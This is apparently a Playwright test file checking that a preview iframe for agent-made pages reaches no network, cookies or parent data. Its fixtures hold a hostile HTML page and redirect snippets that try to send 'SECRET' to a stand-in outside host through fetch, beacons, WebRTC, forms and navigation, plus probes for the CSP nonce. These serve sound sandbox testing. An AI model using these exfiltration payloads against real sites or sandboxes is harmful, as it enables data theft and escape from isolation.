"""What agents make is shown in a frame that reaches nothing: no network, no page, no data."""

from __future__ import annotations

import json
import re
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import BrowserContext, FrameLocator, Page, expect

from deskhand.web.frame import POLICY

from .conftest import Desk, comes_true, dismissed, say
from .test_safety import Elsewhere

pytestmark = pytest.mark.timeout(120)


class Packets:
    """A UDP port, as a STUN server has. `heard` is what came in."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._socket = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._socket.bind(("127.0.0.1", 0))
        self._socket.settimeout(0.1)
        self.port: int = self._socket.getsockname()[1]
        self._open = True
        self._thread = threading.Thread(target=self._listen)
        self._thread.start()

    def _listen(self) -> None:
        while self._open:
            try:
                self.heard.append(self._socket.recv(2000))
            except TimeoutError:
                continue

    def close(self) -> None:
        self._open = False
        self._thread.join()
        self._socket.close()


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    found = Elsewhere()
    yield found
    found.close()


@pytest.fixture
def packets() -> Iterator[Packets]:
    found = Packets()
    yield found
    found.close()


def workspace_of(desk: Desk) -> Path:
    return desk.home / "agents" / "default" / "workspace"


@pytest.fixture
def workspace(desk: Desk) -> Path:
    return workspace_of(desk)


def open_tab(context: BrowserContext) -> Page:
    """A tab in which something may break, and policies may refuse something."""
    page = context.new_page()
    page.goto("/")
    page.get_by_label("Message to Deskhand").wait_for()
    return page


@pytest.fixture
def tab(context: BrowserContext) -> Page:
    return open_tab(context)


def open_file(page: Page, workspace: Path, name: str, text: str) -> None:
    (workspace / name).write_text(text)
    say(page, f"say [open it]({name})")
    page.get_by_role("button", name="open it").last.click()


def show(page: Page, workspace: Path, name: str, text: str) -> FrameLocator:
    """The frame in which this file is shown."""
    open_file(page, workspace, name, text)
    page.locator("iframe.frame").wait_for()
    return page.frame_locator("iframe.frame")


ELEMENTS = """<!doctype html><html><head>
<link rel="preconnect" href="{url}/preconnect"><link rel="dns-prefetch" href="{url}/dns">
<link rel="prefetch" href="{url}/prefetch"><link rel="preload" as="image" href="{url}/preload">
<link rel="modulepreload" href="{url}/module"><link rel="stylesheet" href="{url}/sheet">
<link rel="icon" href="{url}/icon"><link rel="manifest" href="{url}/manifest">
<script type="speculationrules">
{"prefetch": [{"source": "list", "urls": ["{url}/speculation"], "eagerness": "immediate"}]}
</script>
<script src="{url}/script"></script><base href="{url}/base/">
<style>@import "{url}/import"; body { background: url({url}/background) }
@font-face { font-family: x; src: url({url}/font) } b { font-family: x }</style>
</head><body><b>It is shown</b>
<img src="{url}/img"><img srcset="{url}/srcset 1x"><video src="{url}/video" poster="{url}/poster">
</video><audio src="{url}/audio" autoplay></audio><object data="{url}/object"></object>
<embed src="{url}/embed"><iframe src="{url}/iframe"></iframe>
<iframe srcdoc="<img src='{url}/srcdoc'><script>parent.postMessage('ran', '*')</script>"></iframe>
<iframe src="javascript:parent.postMessage('ran', '*')"></iframe>
<svg><image href="{url}/svg" /><use href="{url}/use#x" />
<filter><feImage href="{url}/filter" /></filter></svg>
<form id="form" action="{url}/form"><input name="d" value="SECRET"><button>Send</button></form>
<a id="popup" href="{url}/popup" target="_blank" ping="{url}/ping">Popup</a>
<a id="top" href="{url}/top" target="_top">Top</a>
<a id="download" href="data:text/plain,x" download="x.txt">Download</a>
<div id="log"></div>
<script>
const log = [];
const attempt = (name, act) => {
  try { Promise.resolve(act()).then(() => log.push(name), () => undefined); }
  catch { /* it was refused */ }
};
addEventListener("message", ({ data }) => log.push(data));
attempt("fetch", () => fetch("{url}/fetch"));
attempt("own", () => fetch("{own}/api/auth/me", { credentials: "include" }));
attempt("xhr", () => { const x = new XMLHttpRequest(); x.open("GET", "{url}/xhr", false); x.send(); });
attempt("socket", () => new Promise((yes, no) => {
  const s = new WebSocket("{url}/socket".replace("http", "ws")); s.onopen = yes; s.onerror = no; }));
attempt("events", () => new Promise((yes, no) => {
  const s = new EventSource("{url}/events"); s.onopen = yes; s.onerror = no; }));
navigator.sendBeacon("{url}/beacon", "SECRET");
attempt("image", () => new Promise((yes, no) => {
  const i = new Image(); i.onload = yes; i.onerror = no; i.src = "{url}/image?d=SECRET"; }));
attempt("import", () => import("{url}/import.js"));
attempt("worker", () => new Promise((yes, no) => {
  const code = new Blob(["postMessage(1); fetch('{url}/worker')"]);
  const w = new Worker(URL.createObjectURL(code)); w.onmessage = yes; w.onerror = no; }));
attempt("service worker", () => navigator.serviceWorker.register("/sw.js"));
attempt("open", () => { if (!open("{url}/open")) throw 0; });
attempt("parent", () => parent.document.title);
attempt("top document", () => top.localStorage.length);
attempt("top location", () => { top.location = "{url}/location"; });
attempt("cookie", () => document.cookie);
attempt("database", () => indexedDB.open("x"));
attempt("caches", () => caches.open("x"));
attempt("alert", () => { alert(1); throw 0; });
attempt("rtc", () => new webkitRTCPeerConnection());
attempt("frame window", () => {
  const f = document.createElement("iframe"); document.body.append(f);
  return new f.contentWindow.RTCPeerConnection(); });
const rtc = `const c = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:{udp}" }] });
  c.createDataChannel("x"); c.createOffer().then((o) => c.setLocalDescription(o));
  parent.postMessage("ran", "*");`;
attempt("rtc", () => Function(rtc)());
for (const from of [`<script>${rtc}<\\/script>`, `<img src=x onerror='${rtc}'>`,
    `<svg onload='${rtc}'></svg>`]) {
  const f = document.createElement("iframe"); f.srcdoc = from; document.body.append(f);
}
for (const src of [`javascript:${rtc}`, `data:text/html,<script>${rtc}<\\/script>`,
    URL.createObjectURL(new Blob([`<script>${rtc}<\\/script>`], { type: "text/html" }))]) {
  const f = document.createElement("iframe"); f.src = src; document.body.append(f);
}
const link = Object.assign(document.createElement("link"), { rel: "preconnect", href: "{url}/late" });
document.head.append(link);
form.submit();
for (const id of ["popup", "top", "download"]) document.getElementById(id).click();
setTimeout(() => { document.getElementById("log").textContent = "done " + log.join(); }, 1500);
</script></body></html>"""  # noqa: E501


COMPONENT = """import { useEffect, useRef } from "react";
const page = %s;
export default function Attack() {
  const box = useRef();
  useEffect(() => {
    for (const found of box.current.querySelectorAll("script")) {
      const script = document.createElement("script");
      for (const { name, value } of found.attributes) script.setAttribute(name, value);
      script.text = found.text;
      document.head.append(script); // it has no nonce, so it does not run
      if (!found.src && !found.type) (0, eval)(found.text);
    }
  }, []);
  return <div ref={box} dangerouslySetInnerHTML={{ __html: page }} />;
}
"""
KINDS = ("page", "component")


def made(kind: str, name: str, page: str) -> tuple[str, str]:
    """The name and the text of a file with this page, or with a component that does the same."""
    if kind == "page":
        return f"{name}.html", page
    return f"{name}.jsx", COMPONENT % json.dumps(page)


@pytest.mark.parametrize("kind", KINDS)
def test_a_page_reaches_nothing(
    tab: Page,
    context: BrowserContext,
    desk: Desk,
    elsewhere: Elsewhere,
    packets: Packets,
    kind: str,
) -> None:
    requests: list[str] = []
    dialogs, downloads = dismissed(tab), list[object]()
    context.on("request", lambda request: requests.append(request.url))
    tab.on("download", lambda found: downloads.append(found))
    page = ELEMENTS.replace("{url}", elsewhere.url).replace("{own}", desk.url)
    page = page.replace("{udp}", str(packets.port))
    frame = show(tab, workspace_of(desk), *made(kind, "attack", page))
    expect(frame.get_by_text("It is shown")).to_be_visible()
    expect(frame.locator("#log")).to_have_text("done ", timeout=10_000)
    assert (elsewhere.asked, packets.heard, dialogs, downloads) == ([], [], [], [])
    assert context.pages == [tab]
    known = re.compile(
        re.escape(desk.url) + r"/(?:(?:api/(?!auth/me)|css/|js/|vendor/).*|[\w.]*)$|data:|blob:"
    )
    reached = [url for url in requests if not known.match(url) and not _is_refused(url, elsewhere)]
    assert reached == []


def _is_refused(url: str, elsewhere: Elsewhere) -> bool:
    """The browser tells of requests that it then refuses: what arrives is what counts."""
    return url.startswith(elsewhere.url)


LEAVING = {
    "location": "<script>setTimeout(() => { location = '{to}?d=SECRET' }, 100)</script>",
    "link": "<a id=a href='{to}?d=SECRET'>x</a><script>a.click()</script>",
    "refresh": "<meta http-equiv=refresh content='0;url={to}?d=SECRET'>",
    "own": "<script>setTimeout(() => { location = '{own}/api/auth/me' }, 100)</script>",
    "itself": "<script>setTimeout(() => { location = '{own}/frame?d=SECRET' }, 100)</script>",
}


@pytest.mark.parametrize("kind", KINDS)
@pytest.mark.parametrize("way", LEAVING)
def test_a_page_that_leaves_its_frame_is_stopped(
    tab: Page, elsewhere: Elsewhere, desk: Desk, way: str, kind: str
) -> None:
    answers: list[tuple[str, int]] = []
    tab.on("response", lambda found: answers.append((found.url, found.status)))
    text = LEAVING[way].replace("{to}", elsewhere.url).replace("{own}", desk.url)
    open_file(tab, workspace_of(desk), *made(kind, f"leave-{way}", f"<p>here</p>{text}"))
    expect(tab.get_by_text("tried to go to another page and was stopped")).to_be_visible()
    expect(tab.locator("iframe.frame")).to_have_count(0)
    assert elsewhere.asked == []
    loaded = [each for each in answers if "/auth/me" in each[0] or "SECRET" in each[0]]
    assert loaded in ([], [(f"{desk.url}/frame?d=SECRET", 403)])
    assert tab.url.startswith(desk.url)


NONCE = """<div id="log"></div><script id="own">
const seen = [];
addEventListener("securitypolicyviolation", (event) =>
  seen.push(event.originalPolicy, `refused ${event.effectiveDirective}`));
const look = () => {
  const script = document.getElementById("own");
  for (const one of document.scripts) seen.push(one.nonce, one.getAttribute("nonce"));
  seen.push(script.nonce, script.getAttribute("nonce"), script.outerHTML, document.currentScript?.nonce,
    script.cloneNode(true).nonce, new XMLSerializer().serializeToString(document),
    JSON.stringify(performance.getEntries()));
  seen.push(typeof ReportingObserver, Object.keys(window).join());
};
const img = new Image(); img.src = "http://127.0.0.1:9/x"; document.body.append(img);
look();
setTimeout(() => { look(); document.getElementById("log").textContent = "done " + seen.join(); }, 800);
</script>"""  # noqa: E501


@pytest.mark.parametrize("kind", KINDS)
def test_a_page_never_learns_the_nonce(tab: Page, workspace: Path, kind: str) -> None:
    with tab.expect_response("**/frame") as loaded:
        frame = show(tab, workspace, *made(kind, "nonce", NONCE))
    nonce = re.search(r"'nonce-([^']+)'", loaded.value.headers["content-security-policy"])
    assert nonce is not None
    log = frame.locator("#log")
    expect(log).to_contain_text("refused img-src", timeout=10_000)
    said = log.inner_text()
    assert nonce[1] not in said and "'nonce-" not in said


APP = """<!doctype html><html lang="en"><head><title>List</title><style>li { color: green }</style></head>
<body onload="document.title = 'loaded'"><h1>List</h1>
<form onsubmit="event.preventDefault(); add(words.value)"><input id="words" required aria-label="Words">
<button>Add</button></form><ul id="list"></ul>
<script>
const kept = JSON.parse(localStorage.getItem("kept") ?? "[]");
function add(text) {
  kept.push(text); localStorage.setItem("kept", JSON.stringify(kept));
  list.innerHTML = kept.map((one) => `<li><button onclick="this.remove()">${one}</button></li>`).join("");
}
document.addEventListener("DOMContentLoaded", () => add("milk"));
</script></body></html>"""  # noqa: E501


def test_an_ordinary_page_works(page: Page, workspace: Path) -> None:
    """Handlers in attributes, forms, storage and the events of loading; and no policy refuses
    anything."""
    frame = show(page, workspace, "app.html", APP)
    expect(frame.get_by_role("button", name="milk")).to_be_visible()
    frame.get_by_label("Words").fill("bread")
    frame.get_by_role("button", name="Add").click()
    frame.get_by_role("button", name="bread").click()
    expect(frame.get_by_role("listitem")).to_have_count(2)
    expect(frame.get_by_role("button", name="bread")).to_have_count(0)
    page.get_by_role("button", name="Source", exact=True).click()
    expect(page.locator(".preview code")).to_contain_text("onsubmit")


def test_a_fence_with_a_page_runs_only_when_asked(page: Page) -> None:
    say(page, "say Look:\n\n```html\n<h1>Made</h1><script>document.title='x'</script>\n```")
    page.locator(".did").wait_for()
    assert page.locator("iframe").count() == 0
    page.get_by_role("button", name="Preview", exact=True).click()
    frame = page.frame_locator("iframe.frame")
    expect(frame.get_by_role("heading", name="Made")).to_be_visible()


def test_the_frame_has_a_policy_of_its_own(context: BrowserContext, desk: Desk) -> None:
    page = context.new_page()
    found = page.request.get("/frame")
    policy = found.headers["content-security-policy"]
    nonce = re.search(r"'nonce-([\w-]{32})'", policy)
    assert nonce is not None and policy == POLICY.format(nonce=nonce[1])
    assert "allow-same-origin" not in policy and "unsafe-inline" not in policy.partition("style")[0]
    assert found.headers["x-frame-options"] == "SAMEORIGIN"
    assert page.request.get("/frame").headers["content-security-policy"] != policy
    page.goto("/frame")
    comes_true(page, "document.body.innerText.includes('frames of the page only')")
